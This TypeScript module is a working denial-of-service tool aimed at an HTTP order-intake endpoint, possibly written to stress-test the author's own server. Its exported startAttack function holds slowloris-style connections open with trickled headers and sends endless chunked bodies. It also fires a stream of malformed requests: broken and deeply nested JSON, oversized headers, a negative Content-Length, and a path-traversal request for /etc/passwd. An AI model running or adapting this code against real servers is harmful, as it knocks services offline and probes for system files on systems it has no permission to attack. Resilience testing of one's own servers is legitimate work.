import { connect, type Socket } from 'node:net';

export interface AttackPlan {
  /** Where orders are posted to. */
  readonly url: URL;
  /** Kept open at once, as far as they are let: they send a byte of a head now and then. */
  readonly connections: number;
  /** Opened anew in each tenth of a second, as long as there are too few. */
  readonly openedAtOnce: number;
  /** Of bodies that come in chunks, and never to an end. */
  readonly endless: number;
  readonly garbagePerSecond: number;
}

export interface AttackReport {
  opened: number;
  mostOpen: number;
  /** By the other side. */
  ended: number;
  garbage: number;
  /** First lines of the answers, and how often. */
  readonly answers: Record<string, number>;
}

const tickMs = 100;
const chunk = `1000\r\n${'x'.repeat(0x1000)}\r\n`;

const garbageOf = (host: string, path: string, number: number): string => {
  const post = (body: string, type = 'application/json'): string =>
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
  const kinds = [
    () => post('{"order":'),
    () => post('<order><order>', 'text/xml'),
    () => post(`{"order":{"apikey":"wrong-${number}","id":"${number}"}}`),
    () => post(`${'['.repeat(5_000)}`),
    () => `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Long: ${'h'.repeat(60_000)}\r\n\r\n`,
    () => `GET ${path}/../../etc/passwd HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`,
    () => '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\r\n\r\n',
    () => post('', 'text/plain').replace('Content-Length: 0', 'Content-Length: -1'),
  ];
  return kinds[number % kinds.length]?.() ?? '';
};

/** Attacks an intake in several ways at once until it is stopped. */
export const startAttack = (plan: AttackPlan): { readonly report: AttackReport; stop(): AttackReport } => {
  const { url } = plan;
  const report: AttackReport = { opened: 0, mostOpen: 0, ended: 0, garbage: 0, answers: {} };
  const held = new Set<Socket>();
  const endless = new Set<Socket>();
  const all = new Set<Socket>();
  let stopped = false;

  const open = (kept: Set<Socket> | null, first: string): void => {
    const socket = connect(Number(url.port), url.hostname);
    all.add(socket);
    kept?.add(socket);
    report.opened += 1;
    let answer = '';
    socket
      .on('error', () => undefined)
      .on('data', (data) => {
        if (answer.length < 100) answer += data.toString('latin1');
      })
      .once('close', () => {
        all.delete(socket);
        kept?.delete(socket);
        if (stopped) return;
        const line = /^HTTP\/1\.1 (\d{3})/u.exec(answer)?.[1] ?? 'no answer';
        report.answers[line] = (report.answers[line] ?? 0) + 1;
        if (kept !== null) report.ended += 1;
      })
      .write(first);
  };

  const head = `POST ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\n`;
  const tick = (): void => {
    for (let number = 0; number < plan.openedAtOnce && held.size < plan.connections; number += 1) open(held, head);
    // A few at a time, so that to be slow costs the attacker nothing either.
    for (const socket of [...held].slice(0, 20)) socket.write('X-Slow: 1\r\n');
    while (endless.size < plan.endless) open(endless, `${head}Transfer-Encoding: chunked\r\n\r\n`);
    for (const socket of endless) if (socket.writableLength === 0) socket.write(chunk);
    for (let number = 0; number < (plan.garbagePerSecond * tickMs) / 1000; number += 1) {
      report.garbage += 1;
      open(null, garbageOf(url.host, url.pathname, report.garbage));
    }
    report.mostOpen = Math.max(report.mostOpen, held.size);
  };
  const timer = setInterval(tick, tickMs);
  return {
    report,
    stop: () => {
      stopped = true;
      clearInterval(timer);
      for (const socket of all) socket.destroy();
      return report;
    },
  };
};
